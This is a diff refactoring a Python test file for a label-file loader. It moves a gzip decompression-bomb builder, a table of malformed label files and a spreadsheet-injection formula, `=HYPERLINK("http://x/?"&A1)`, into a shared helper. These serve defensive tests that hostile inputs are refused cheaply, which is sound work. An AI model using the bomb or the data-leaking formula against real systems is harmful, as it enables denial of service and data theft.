@@ -1,6 +1,5 @@
 """Label files made to do harm: refused in one line, in little memory."""
 
-import gzip
 import resource
 import tarfile
 import tracemalloc
@@ -12,19 +11,8 @@ from input_pipeline.labels import edge_files, hierarchy, text_lines, vocabulary
 from input_pipeline.labels.vocabulary import Vocabulary
 from input_pipeline.publishers.open_images import files as open_images
 from input_pipeline.sources import table
-
-GIGABYTE = 10**9
-MIB = 1 << 20
-
-
-def bomb(path, block: bytes) -> str:
-  """A gzip file of a gigabyte of `block`, made in no time.
-
-  Its members are copies of one: gzip files joined are a gzip file.
-  """
-  member = gzip.compress(block * (16 * MIB // len(block)))
-  path.write_bytes(member * (GIGABYTE // (16 * MIB) + 1))
-  return str(path)
+from tests.input_pipeline.labels import hostile_files
+from tests.input_pipeline.labels.hostile_files import FILES, MIB, bomb
 
 
 def peak(function, *args) -> tuple[str, int]:
@@ -75,60 +63,9 @@ def test_a_compressed_tar_that_is_a_bomb_is_not_unpacked(tmp_path):
   assert not list(scratch.glob('*.tar*[!k]'))
 
 
-NAMES = ('a', 'b', 'c')
-FORMULA = '=HYPERLINK("http://x/?"&A1)'
-# kind -> (reader, file name, text, message behind 'path')
-FILES = {
-  'cycle': ('edges', 'e.tsv', 'a\tb\nb\tc\nc\ta\n', ':1: cycle of 3 edges'),
-  'depth of a million in JSON': (
-    'edges',
-    'e.json',
-    '{"is_a":\n' + ('[' * 1000 + '\n') * 1000,
-    ': JSON nested too deeply at line 1001',
-  ),
-  'duplicate id': (
-    'names',
-    'v.jsonl',
-    '{"id": 0, "name": "a"}\n{"id": 0, "name": "b"}\n',
-    ':2: id 0',
-  ),
-  'duplicate name': (
-    'names', 'v.jsonl', '{"name": "a"}\n{"name": "a"}\n', ":2: ",
-  ),
-  'duplicate edge': ('edges', 'e.tsv', 'a\tb\na\tb\n', ":2: edge 'a' -> 'b'"),
-  'NaN in JSON': (
-    'edges',
-    'e.json',
-    '{"note": "NaN",\n "is_a": [["a", NaN]]}',
-    ': NaN is not a JSON number at line 2',
-  ),
-  'NaN of a weight': (
-    'names',
-    'v.jsonl',
-    '{"name": "a"}\n{"name": "b", "popularity_weight": NaN}\n',
-    ':2: NaN is not a JSON number',
-  ),
-  'surrogate': (
-    'edges', 'e.json', '{"is_a": [["a", "b"],\n["\\udfff", "a"]]}', ':2: ',
-  ),
-  'bytes of a surrogate': ('names', 'v.txt', b'a\n\xed\xbf\xbf\n', ':2: not U'),
-  'line separator': ('names', 'v.txt', 'a\nb\u2028c\n', ':2: character'),
-}  # fmt: skip
-
-
 @pytest.mark.parametrize('kind', FILES)
 def test_each_is_refused_with_its_line(tmp_path, kind):
-  reader, name, text, message = FILES[kind]
-  path = tmp_path / name
-  path.write_bytes(text if isinstance(text, bytes) else text.encode())
-  with pytest.raises(ValueError) as raised:
-    if reader == 'edges':
-      hierarchy.load(str(path), Vocabulary(NAMES))
-    else:
-      vocabulary.load(str(path))
-  said = str(raised.value)
-  assert said.startswith(f'{path}{message}')
-  assert '\n' not in said and len(said) < 500
+  hostile_files.check(kind, tmp_path)
 
 
 @pytest.mark.nightly
@@ -139,6 +76,9 @@ def test_a_chain_of_a_million_nodes_is_one_message(tmp_path):
   with pytest.raises(ValueError, match=message) as raised:
     hierarchy.load(str(path), Vocabulary(('5', '6')), unlisted='traverse')
   assert len(str(raised.value)) < 500
+
+
+FORMULA = '=HYPERLINK("http://x/?"&A1)'
 
 
 @pytest.mark.parametrize(
